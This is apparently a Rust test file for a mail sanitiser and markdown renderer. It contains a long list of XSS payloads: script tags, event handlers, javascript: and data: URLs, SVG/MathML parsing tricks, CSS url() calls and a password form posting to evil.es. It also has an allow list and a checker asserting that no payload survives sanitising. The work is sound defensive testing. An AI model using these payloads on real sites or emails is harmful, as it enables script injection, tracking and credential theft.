//! Markup that tries to run, load, submit or frame something.

use mail::{render_markdown, sanitise};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.es/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x`\" `onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img srcset=\"https://evil.es/a 1x\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=//evil.es/p.gif>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>x</div>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x.es/1>x</a>",
    "<a href=https://ok.es target=_self ping=https://evil.es>x</a>",
    "<a href=https://ok.es download>x</a>",
    "<iframe src=https://evil.es></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.es/x.swf></object>",
    "<embed src=https://evil.es/x.swf>",
    "<applet code=x></applet>",
    "<base href=https://evil.es/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.es\">",
    "<link rel=stylesheet href=https://evil.es/x.css>",
    "<style>@import 'https://evil.es/x.css';</style>",
    "<style>body{background:url(https://evil.es)}</style>",
    "<div style=\"background:url(https://evil.es/p)\">x</div>",
    "<div style=\"background-color:red;background-image:url(x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"color:red;behavior:url(x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(x.xml#y)\">x</div>",
    "<div style=\"color:\\75\\72\\6c(https://evil.es)\">x</div>",
    "<div style=\"color:u/**/rl(https://evil.es)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style='list-style-image:image-set(\"https://evil.es\" 1x)'>x</div>",
    "<table background=https://evil.es/p><tr><td background=https://evil.es/q>x</td></tr></table>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form action=https://evil.es><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://evil.es/x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.es autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=https://evil.es></portal>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<p title=\"--><script>alert(1)</script>\">x</p>",
    "<img alt='\"><script>alert(1)</script>' src=https://a.es/x.png>",
    "<img src=\"cid:x&quot; onerror=&quot;alert(1)\">",
    "<img src=\"https://a.es/&quot;onerror=&quot;alert(1)\">",
    "<a href=\"https://a.es/&quot;onclick=&quot;alert(1)\">x</a>",
    "<div id=x class=y data-remote-src=https://evil.es data-cid=z>x</div>",
    "<img data-remote-src=https://evil.es>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<area href=javascript:alert(1)>",
    "<map name=x><area href=https://evil.es></map><img usemap=#x src=https://a.es/x>",
    "\u{0}<script\u{0}>alert(1)</script\u{0}>",
    "<a href=\"https://a.es\" style=\"color:red\" onfocus=alert(1) autofocus tabindex=1>x</a>",
];

/// Elements the sanitiser may leave.
const ALLOWED: [&str; 62] = [
    "a",
    "abbr",
    "acronym",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
];
const ALSO_ALLOWED: [&str; 13] =
    ["tr", "tt", "u", "ul", "var", "wbr", "time", "samp", "ruby", "rt", "rp", "rtc", "tfoot"];

/// Attributes that hold no address and run nothing.
const INERT: [&str; 36] = [
    "alt",
    "align",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "char",
    "charoff",
    "class",
    "color",
    "colspan",
    "data-cid",
    "data-remote-src",
    "datetime",
    "dir",
    "face",
    "headers",
    "height",
    "href",
    "hreflang",
    "id",
    "lang",
    "rel",
    "rowspan",
    "scope",
    "size",
    "span",
    "src",
    "start",
    "style",
    "summary",
    "target",
    "title",
    "type",
    "valign",
    "width",
];

/// The first thing in `html` that should not be there; reads tags on its own, not by the crate's means.
pub(crate) fn offence(html: &str) -> Option<String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let (tag, after) = split_tag(&rest[start + 1..]);
        if let Some(offence) = tag_offence(tag) {
            return Some(format!("{offence} in <{tag}>"));
        }
        rest = after;
    }
    None
}

fn split_tag(rest: &str) -> (&str, &str) {
    let mut is_quoted = false;
    let end = rest.bytes().position(|byte| {
        is_quoted ^= byte == b'"';
        byte == b'>' && !is_quoted
    });
    let end = end.unwrap_or(rest.len());
    (&rest[..end], rest.get(end + 1..).unwrap_or_default())
}

fn tag_offence(tag: &str) -> Option<String> {
    let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap_or_default();
    if !ALLOWED.contains(&name) && !ALSO_ALLOWED.contains(&name) {
        return Some(format!("element {name}"));
    }
    let mut rest = tag.split_once(' ').map(|(_, rest)| rest).unwrap_or_default();
    while let Some((attribute, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"')?;
        if let Some(offence) = attribute_offence(attribute.trim(), value) {
            return Some(offence);
        }
        rest = after;
    }
    None
}

fn attribute_offence(name: &str, value: &str) -> Option<String> {
    let lower = value.trim().to_lowercase();
    let is_ok = match name {
        "href" => ["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| lower.starts_with(scheme)),
        "src" => lower.starts_with("data:image/") && !lower.starts_with("data:image/svg"),
        "style" => {
            !["url", "expression", "\\", "/*", "position", "binding", "behavior"].iter().any(|bad| lower.contains(bad))
        }
        "target" => value == "_blank",
        _ => INERT.contains(&name),
    };
    (!is_ok).then(|| format!("{name}={value}"))
}

#[test]
fn nothing_that_acts_survives() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        for wrapped in [
            (*payload).to_owned(),
            format!("<div>{payload}</div>"),
            format!("<table><tr><td>{payload}"),
            format!("<p title=\"{payload}\">x</p>"),
            format!("<svg>{payload}</svg>{payload}"),
        ] {
            let html = sanitise(&wrapped).html;
            assert_eq!(offence(&html), None, "{wrapped}\n→ {html}");
        }
    }
}

#[test]
fn what_an_agent_writes_cannot_act_either() {
    for payload in PAYLOADS {
        for written in
            [(*payload).to_owned(), format!("[x]({payload})"), format!("![x]({payload})"), format!("`{payload}`")]
        {
            let html = render_markdown(&written);
            assert_eq!(offence(&html), None, "{written}\n→ {html}");
        }
    }
}

#[test]
fn the_judge_sees_what_it_should_see() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<img src=\"https://x\">",
        "<p style=\"background:url(x)\">",
    ] {
        assert!(offence(bad).is_some(), "{bad}");
    }
}
